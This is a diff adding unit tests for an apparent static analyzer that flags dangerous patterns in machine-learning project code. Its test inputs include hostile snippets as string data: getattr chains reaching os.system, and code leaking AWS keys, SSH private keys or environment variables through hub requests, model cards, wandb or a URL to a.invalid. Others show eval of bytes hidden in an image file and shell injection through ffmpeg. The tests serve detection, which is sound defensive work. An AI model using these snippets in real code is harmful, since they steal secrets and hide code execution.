@@ -842,3 +842,116 @@ def test_server_that_answers_with_the_environment_is_found(code: str, is_found: 
 def test_function_that_is_made_of_compiled_text_runs_it(code: str, is_found: bool) -> None:
     found = {each.name for each in analyze_source(code).mentions if each.use.startswith("call")}
     assert ("builtins.exec" in found) == is_found
+
+
+_PATH = "for name in names:\n    found = getattr(found, name)\n"
+
+
+@check_each(
+    "source, is_found",
+    [
+        ("import torch\nfound = torch\n" + _PATH + "found('x')\n", True),
+        ("import torch\nfound = torch\nwhile names:\n    found = getattr(found, names.pop())\nfound('x')\n", True),
+        ("import torch\nclass A:\n    def __init__(s, r): s.r = r\n    def go(s, names):\n        found = s.r\n"
+         "        for name in names:\n            found = getattr(found, name)\n        found('x')\nA(torch)\n", True),
+        ("import torch\nclass A:\n    def __init__(s, *p): s.p = p\n    def __exit__(s, *a):\n        found = torch\n"
+         "        for name in s.p:\n            found = getattr(found, name)\n        found('x')\n", True),
+        ("import torch\nfound = torch\n[found := getattr(found, name) for name in names]\nfound('x')\n", True),
+        ("def find(found, names):\n    for name in names:\n        found = getattr(found, name)\n    return found('x')\n",
+         False),
+        ("import torch\nfor name in names:\n    layer = getattr(torch.nn, name)(4)\n", False),
+    ],
+)  # fmt: skip
+def test_object_that_a_loop_reaches_from_a_package_by_names_of_any_number_is_found(source: str, is_found: bool) -> None:
+    assert (FOUND_OBJECT in {name for _, name in list_uses(source)}) == is_found
+
+
+def test_steps_of_accumulate_are_those_of_reduce() -> None:
+    source = (
+        "import itertools, torch\n"
+        "list(itertools.accumulate(['hub', 'os', 'system'], getattr, initial=torch))[-1]('x')\n"
+    )
+    assert "os.system" in {name for _, name in list_uses(source)}
+
+
+def test_names_that_a_call_gives_to_variable_arguments_are_followed() -> None:
+    source = (
+        "import torch\ndef find(found, *names):\n    for name in names:\n        found = getattr(found, name)\n"
+        "    return found\nfind(torch, 'hub', 'os', 'system')('x')\n"
+    )
+    assert "os.system" in {name for _, name in list_uses(source)}
+
+
+@check_each(
+    "source, is_found",
+    [
+        ("tree = ast.parse('print(1)')\ntree.body[0] = node\nexec(compile(tree, 'x', 'exec'))\n", True),
+        ("exec(compile('print(1)', 'x', 'exec'))\n", False),
+        ("for node in ast.walk(ast.parse('print(1)')):\n    print(node)\n", False),
+    ],
+)
+def test_syntax_tree_that_the_source_may_change_is_code_that_it_does_not_show(source: str, is_found: bool) -> None:
+    assert (("call-at-import", "builtins.exec") in list_uses(f"import ast\n{source}")) == is_found
+
+
+@check_each(
+    "source, is_sent",
+    [
+        ("AutoConfig.from_pretrained('acme/log', revision=os.getenv('AWS_SECRET_ACCESS_KEY'))", True),
+        ("hf_hub_download('acme/log', filename=open(os.path.expanduser('~/.ssh/id_rsa')).read())", True),
+        ("ModelCard('# a' + get_token()).push_to_hub('acme/log')", True),
+        (
+            "import webbrowser\nwith open(os.path.expanduser('~/.config/gh/hosts.yml')) as file:\n"
+            "    webbrowser.open(f'https://a.invalid/?s={file.read()}')",
+            True,
+        ),
+        ("import wandb\nwandb.init(project='a').config.update(dict(os.environ))", True),
+        ("import wandb\nwandb.init(project='a').config.update({'key': len(os.environ)})", False),
+        ("AutoConfig.from_pretrained('acme/a', revision='main', token=os.environ['HF_TOKEN'])", False),
+        ("AutoConfig.from_pretrained(os.environ['MODEL_ID'])", False),
+        ("ModelCard('# a').push_to_hub('acme/a', token=get_token())", False),
+    ],
+)
+def test_secret_in_an_address_or_a_card_of_the_hub_is_sent(source: str, is_sent: bool) -> None:
+    imports = (
+        "import os\nfrom transformers import AutoConfig\n"
+        "from huggingface_hub import ModelCard, get_token, hf_hub_download\n"
+    )
+    assert ("sends-secret" in {use for use, _ in list_uses(imports + source)}) == is_sent
+
+
+@check_each(
+    "arguments, suffix",
+    [(", weights_only=False", "(weights_only=False)"), (", weights_only=True", ""), ("", "")],
+)
+def test_download_of_weights_that_is_unpickled_has_a_name_of_its_own(arguments: str, suffix: str) -> None:
+    source = f"import torch\ntorch.hub.load_state_dict_from_url(url{arguments})\n"
+    assert ("call-at-import", f"torch.hub.load_state_dict_from_url{suffix}") in list_uses(source)
+
+
+@check_each(
+    "source, is_found",
+    [
+        ("def cut(path):\n    data = open(path, 'rb').read()\n    return data[4:9].decode()\n"
+         "chain = cut('voices/a.wav')\nos.system(f'ffmpeg -af \"{chain}\" b.wav')\n", True),
+        ("eval(open('a.png', 'rb').read()[90:].decode())\n", True),
+        ("import subprocess\nsubprocess.run(['play', open('a.wav', 'rb').read()[:4].decode()])\n", False),
+        ("os.system(f'ffmpeg -i {path} b.wav')\n", False),
+    ],
+)  # fmt: skip
+def test_bytes_of_a_recording_in_a_line_for_a_shell_are_model_data(source: str, is_found: bool) -> None:
+    assert ("of-model-data" in {use for use, _ in list_uses(f"import os\n{source}")}) == is_found
+
+
+@check_each(
+    "arguments, is_found",
+    [
+        ("allowed_paths=['/']", True),
+        ("allowed_paths=['~', 'a']", True),
+        ("allowed_paths=['assets']", False),
+        ("", False),
+    ],
+)
+def test_server_that_shares_a_whole_disk_sends_secrets(arguments: str, is_found: bool) -> None:
+    source = f"import gradio as gr\ngr.Interface(lambda text: text, 'text', 'text').launch({arguments})\n"
+    assert ("sends-secret" in {use for use, _ in list_uses(source)}) == is_found
